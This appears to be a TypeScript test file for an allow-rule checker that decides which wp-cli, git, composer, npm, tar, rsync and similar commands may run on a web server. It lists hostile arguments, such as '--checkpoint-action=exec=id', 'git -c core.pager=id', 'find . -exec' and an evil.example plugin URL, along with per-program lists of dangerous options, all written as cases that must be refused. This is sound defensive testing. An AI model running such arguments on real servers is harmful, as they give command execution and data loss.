import type { AllowRule } from '@hlidka/protocol';
import { expect, test } from 'vitest';
import { judgeByRule, letsThrough } from './allow-rules.ts';

const words = (line: string) => line.split(' ');
const rule = (line: string): AllowRule => ({ argv: words(line), more: true, where: 'site' });
const verdict = (allowed: string, asked: string) =>
  judgeByRule(rule(allowed), words(asked), '/var/www/web');

test.each([
  ['wp plugin', 'wp plugin list --exec=system("id");', '--exec=system("id");'],
  ['wp plugin', 'wp plugin list --require=/tmp/a.php', '--require=/tmp/a.php'],
  ['wp plugin', 'wp plugin list --path=/var/www/other', '--path=/var/www/other'],
  ['wp plugin', 'wp plugin list --ssh=other.example', '--ssh=other.example'],
  ['wp plugin', 'wp plugin list --http=https://other.example', '--http=https://other.example'],
  ['wp plugin', 'wp plugin install https://evil.example/a.zip', 'https://evil.example/a.zip'],
  ['wp plugin', 'wp plugin install ../a.zip', '../a.zip'],
  ['wp', 'wp @other plugin list', '@other'],
  ['wp', 'wp eval phpinfo();', 'eval'],
  ['/usr/local/bin/wp-cli.phar', '/usr/local/bin/wp-cli.phar shell', 'shell'],
  ['php wp-cli.phar plugin', 'php wp-cli.phar plugin list --exec=a', '--exec=a'],
  ['git', 'git -c core.pager=id log', '-c'],
  ['git', 'git --config-env=a=b log', '--config-env=a=b'],
  ['git fetch', 'git fetch --upload-pa=id', '--upload-pa=id'],
  ['git pull', 'git pull ext::id', 'ext::id'],
  ['git', 'git -C /srv/other pull', '-C'],
  ['composer', 'composer exec id', 'exec'],
  ['composer install', 'composer install -d /srv/other', '-d'],
  ['npm', 'npm exec id', 'exec'],
  ['npm install', 'npm install --script-shell=/tmp/a', '--script-shell=/tmp/a'],
  ['npm install', 'npm install evil/repo', 'evil/repo'],
  ['php', 'php a.php', 'a.php'],
  ['php -v', 'php -v -r phpinfo();', '-r'],
  ['mysql web', 'mysql web -e drop', '-e'],
  ['mariadb-dump web', 'mariadb-dump web --defaults-file=/tmp/a', '--defaults-file=/tmp/a'],
  ['tar -cf a.tar', 'tar -cf a.tar . --checkpoint-action=exec=id', '--checkpoint-action=exec=id'],
  ['tar -cf a.tar', 'tar -cf a.tar . --checkpoint-act=exec=id', '--checkpoint-act=exec=id'],
  ['tar', 'tar -cIid -f a.tar .', '-cIid'],
  ['tar', 'tar cIf id a.tar', 'cIf'],
  ['rsync -a', 'rsync -a -e id a b', '-e'],
  ['rsync -a', 'rsync -a web/ other.example:web/', 'other.example:web/'],
  ['find .', 'find . -exec id {} ;', '-exec'],
  ['find .', 'find . -delete', '-delete'],
  ['ssh other.example', 'ssh other.example id', 'id'],
  ['sudo wp', 'sudo wp eval 1', 'eval'],
  ['sh', 'sh -c id', '-c'],
  ['env', 'env wp', 'wp'],
])('“%s …” refuses %s', (allowed, asked, argument) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'refused', argument });
});

/** What makes a program run another one, or work elsewhere than it was let to. */
const elsewhere: Record<string, string> = {
  wp: `
    --exec --require --ssh --http --config --prompt eval eval-file shell package
    config cli server scaffold db`,
  git: `
    --exec --exec-path --config --config-env --upload-pack --receive-pack
    --git-dir --work-tree --namespace --template --output --open-files-in-pager
    --ext-diff --textconv --extcmd --editor --super-prefix --no-index
    --separate-git-dir -c -C -u -x -O -o config bisect submodule filter-branch
    difftool mergetool rebase`,
  composer: `
    --working-dir --repository --repository-url --prefer-source -d -c exec run
    run-script config global require create-project init self-update reinstall
    archive`,
  npm: `
    --prefix --script-shell --node-options --userconfig --globalconfig --global
    --shell --registry --call --package --git --editor --viewer --cache --location
    --local-prefix -g -c -C exec x explore run run-script rum urn start stop
    restart test t tst config c get set edit init create innit link ln publish`,
  php: `
    --run --process-begin --process-code --process-file --process-end --php-ini
    --define --zend-extension --file --interactive --server --docroot -r -B -R -F
    -E -d -c -z -f -a -S -t`,
  mysql: `
    --execute --init-command --defaults-file --defaults-extra-file
    --defaults-group-suffix --login-path --pager --tee --plugin-dir --default-auth
    --host --port --socket --protocol --local-infile --load-data-local-dir
    --result-file --tab --user -e -h -S -P -T -r -u`,
  tar: `
    --checkpoint-action --use-compress-program --to-command --info-script
    --new-volume-script --rsh-command --rmt-command --directory --cd
    --absolute-names --files-from --index-file --one-top-level --recursive-unlink
    --listed-incremental --transform --xform -I -F -C -P -T -K -g`,
  rsync: `
    --rsh --rsync-path --remote-option --daemon --config --password-file
    --files-from --early-input --write-batch --read-batch --only-write-batch
    --log-file --temp-dir --backup-dir --partial-dir --source-filter --dest-filter
    -e -M -T`,
  find: `
    -exec -execdir -ok -okdir -delete -fprint -fprint0 -fprintf -fls -files0-from
    --files0-from`,
};

test.each(Object.entries(elsewhere))(
  'nothing that leads “%s …” elsewhere may follow',
  (program, all) => {
    const passed = all
      .trim()
      .split(/\s+/)
      .filter((word) => judgeByRule(rule(program), [program, word], null)?.is !== 'refused');
    expect(passed).toEqual([]);
  },
);

test.each([
  ['wp plugin', 'wp plugin list'],
  ['wp plugin', 'wp plugin list --path=/var/www/web --format=json'],
  ['wp plugin', 'wp plugin list --path=/var/www/web//'],
  ['wp plugin', 'wp plugin update --all'],
  ['wp plugin', 'wp plugin install config'],
  ['wp plugin', 'wp help plugin list'],
  ['git log', 'git log --oneline -10'],
  ['npm install', 'npm install @scope/name'],
  ['tar -tzf', 'tar -tzf a.tgz'],
  ['rsync -a a b', 'rsync -a a b --backup'],
  ['find .', 'find . -name *.php'],
  ['cat', 'cat a b'],
])('“%s …” lets %s through', (allowed, asked) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'allowed' });
});

test.each([
  ['wp', 'wp plugin list', 'plugin'],
  ['wp', 'wp db check', 'db'],
  ['sudo wp', 'sudo wp plugin list', 'plugin'],
  ['git', 'git log --oneline', 'log'],
  ['composer', 'composer i --no-dev', 'i'],
  ['rsync -a', 'rsync -a --backup a b', '--backup'],
  ['rsync -a a', 'rsync -a a b', 'b'],
  ['mysqldump', 'mysqldump web', 'web'],
  ['drush', 'drush status', 'status'],
  ['drush', 'drush status --include=/tmp', '--include=/tmp'],
  ['drush', 'drush status --a --b', '--a'],
  ['find -name a', 'find -name a -print', '-print'],
  ['nice drush', 'nice drush status', 'status'],
])('“%s …” names too little for %s: the operator is asked', (allowed, asked, argument) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'asked', argument });
});

test.each([
  // The value of the rule’s last option would be free.
  ['composer install -d', 'composer install -d web', 'web'],
  ['wp plugin list --format', 'wp plugin list --format json', 'json'],
  ['git log --odd', 'git log --odd main', 'main'],
  // So would the program behind a launcher.
  ['nice -n', 'nice -n 10 wp', '10'],
  ['timeout 10', 'timeout 10 wp', 'wp'],
  ['env A=b', 'env A=b wp', 'wp'],
  ['nice -x wp plugin', 'nice -x wp plugin list', 'list'],
  ['wp --odd plugin', 'wp --odd plugin list', 'list'],
  ['tail -n', 'tail -n /etc/passwd', '/etc/passwd'],
  ['ls', 'ls -lz', '-lz'],
  ['head', 'head -20x a', '-20x'],
  ['du', 'du -d/etc', '-d/etc'],
  ['du', 'du --max-depth=/etc', '--max-depth=/etc'],
  ['git pull', 'git pull origin main:other', 'main:other'],
  ['git pull origin', 'git pull origin main --all', '--all'],
  ['wp', 'wp plugin list --exec=a', '--exec=a'],
  ['wp plugin', 'wp plugin list --format=a/b', '--format=a/b'],
  ['git gc', 'git gc x', 'x'],
  ['git commit', 'git commit x', 'x'],
  ['mariadb web', 'mariadb web -e', '-e'],
  ['wp', 'wp --quiet plugin list', '--quiet'],
  ['wp', 'wp db --help check', 'db'],
  ['wp plugin', 'wp plugin list --path=', '--path='],
])('“%s …” refuses %s by %s', (allowed, asked, argument) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'refused', argument });
});

test.each([
  ['nice -n 10 -t wp', 'nice -n 10 -t wp help'],
  ['wp', 'wp help --prompt'],
  ['wp', 'wp help /etc'],
  ['wp plugin', 'wpx help plugin'],
  ['nice wp', 'time wp help'],
  ['npm', 'npm help install'],
  ['drush', 'drush help'],
])('help under “%s …” is no way around: %s', (allowed, asked) => {
  expect(verdict(allowed, asked)?.is).not.toBe('allowed');
});

/** Each with an option that may follow it. */
const subcommands = `
  wp plugin --all|wp theme --all|wp core --minor|wp option --format=json|wp user --role=editor|wp post --yes
  wp comment --yes|wp term --yes|wp menu --yes|wp cache --quiet|wp transient --expired|wp cron --due-now
  wp rewrite --hard|wp media --yes|wp language --all|wp maintenance-mode --quiet|wp role --format=csv
  wp cap --quiet|wp widget --quiet|wp sidebar --quiet|wp taxonomy --quiet|wp post-type --quiet
  wp super-admin --quiet|wp site --url=a.example|wp network --quiet|wp db check --quiet|wp db optimize --quiet|wp db size --tables|wp db repair --quiet
  wp db tables --quiet|wp db prefix --quiet|git log -p|git show --stat|git diff --cached|git blame -w
  git shortlog -s|git status -sb|git fetch -p|git pull --rebase|git push --tags|git branch -a|git tag -l
  git remote -v|git checkout -q|git switch -q|git restore --staged|git reset --hard|git add -A|git commit -a
  git stash -u|git merge --ff-only|git rev-parse --short|git describe --tags|git ls-files -m
  git count-objects -v|git fsck --full|git gc --auto|composer install -n|composer update -n
  composer remove -n|composer dump-autoload -o|composer show -l|composer outdated -D|composer licenses -n
  composer audit --locked|composer check-platform-reqs -q|composer validate --strict|composer status -v
  composer diagnose -q|composer clear-cache -q|composer i -n|composer u -n|composer upgrade -n|composer info -l
  npm install -D|npm ci -s|npm update -s|npm uninstall -s|npm prune -s|npm dedupe -s|npm outdated -a|npm ls -a
  npm why -s|npm view --json|npm audit --json|npm i -D|npm add -D|npm up -s|npm list -a|npm rm -s
  mysqlcheck web -c|mysqlshow web -i|mariadb-dump web --quick|mysqladmin ping -s|mariadb-check web -a
  tar -tf -v|tar --list -v|gtar -cf a.tar -v|rsync -a a b -n|cat -n|head -q|md5sum a|sha256sum a|df -h
  systemctl is-active -q|systemctl is-enabled -q|systemctl is-failed -q|systemctl list-units --all
  systemctl list-timers --all|find . -print|php7.4 -l a.php`;
test.each(subcommands.trim().split(/\s*\n\s*|\|/))('known and harmless: %s', (line) => {
  const all = words(line);
  expect(judgeByRule(rule(all.slice(0, -1).join(' ')), all, null)).toEqual({ is: 'allowed' });
});

test('a rule that is exact allows itself and nothing else', () => {
  expect(verdict('drush', 'wp status')).toBeNull();
  const exact = { ...rule('wp plugin'), more: false };
  expect(judgeByRule(exact, words('wp plugin'), null)).toEqual({ is: 'allowed' });
  expect(judgeByRule(exact, words('wp plugin list'), null)).toBeNull();
  expect(judgeByRule(exact, words('wp help plugin'), null)).toBeNull();
});

test.each([
  ['tail -n', 'tail -n 50 error.log'],
  ['tail', 'tail -n50 error.log'],
  ['tail', 'tail -qn 50 error.log'],
  ['ls', 'ls -la'],
  ['git -C /srv/a --no-pager log', 'git -C /srv/a --no-pager log -3'],
  ['wp --path=/srv/a plugin', 'wp --path=/srv/a plugin list'],
  ['ionice -c 3 wp plugin', 'ionice -c 3 wp plugin list'],
  ['nohup wp plugin', 'nohup wp plugin list'],
  ['setsid -w wp plugin', 'setsid -w wp plugin list'],
  ['time -p wp plugin', 'time -p wp plugin list'],
  ['stdbuf -oL wp plugin', 'stdbuf -oL wp plugin list'],
  ['taskset 1 wp plugin', 'taskset 1 wp plugin list'],
  ['flock -n /tmp/lock wp plugin', 'flock -n /tmp/lock wp plugin list'],
  ['timeout -k 5 60 wp plugin', 'timeout -k 5 60 wp plugin list'],
  ['doas -u web wp plugin', 'doas -u web wp plugin list'],
  ['runuser -u web wp plugin', 'runuser -u web wp plugin list'],
  ['composer -n install', 'composer -n install --no-dev'],
  ['composer', 'composer help install'],
  ['npm --json ls', 'npm --json ls --depth=0'],
  ['systemctl --no-pager status', 'systemctl --no-pager status nginx'],
  ['stat', 'stat -c /%s a'],
  ['grep', 'grep -m5 /x a.log'],
  ['grep', 'grep -m 5 /x a.log'],
  ['wp db size --odd=1', 'wp db size --odd=1 --tables'],
  ['nice -- wp plugin', 'nice -- wp plugin list'],
  ['env A=b C=d wp plugin', 'env A=b C=d wp plugin list'],
  ['sudo -n -u www-data nice -5 wp plugin', 'sudo -n -u www-data nice -5 wp plugin list'],
  ['git commit', 'git commit -m Oprava:/a'],
  ['git fetch', 'git fetch origin main other'],
  ['/usr/bin/php8.2 /opt/wp-cli.phar plugin', '/usr/bin/php8.2 /opt/wp-cli.phar plugin list'],
])('“%s …” lets %s through, wherever the rule’s own words end', (allowed, asked) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'allowed' });
});

test('what a rule is said to let through it does let through: three commands, or as many as there are', () => {
  const shown = (line: string) => letsThrough(rule(line)).map((argv) => argv.join(' '));
  expect(shown('wp plugin')).toEqual([
    'wp plugin delete --all',
    'wp plugin install woocommerce --activate',
    'wp plugin update --all',
  ]);
  expect(shown('cat')).toEqual(['cat readme.html', 'cat .', 'cat']);
  expect(shown('nice wp theme')).toEqual([
    'nice wp theme delete --all',
    'nice wp theme update --all',
    'nice wp theme',
  ]);
  expect(shown('sudo wp')).toEqual(['sudo wp']);
  for (const line of [
    'wp',
    'git',
    'composer',
    'npm',
    'php',
    'php a.php',
    'mysql',
    'tar',
    'rsync',
    'find',
  ])
    for (const argv of letsThrough(rule(line)))
      expect(judgeByRule(rule(line), argv, null), argv.join(' ')).toEqual({ is: 'allowed' });
});
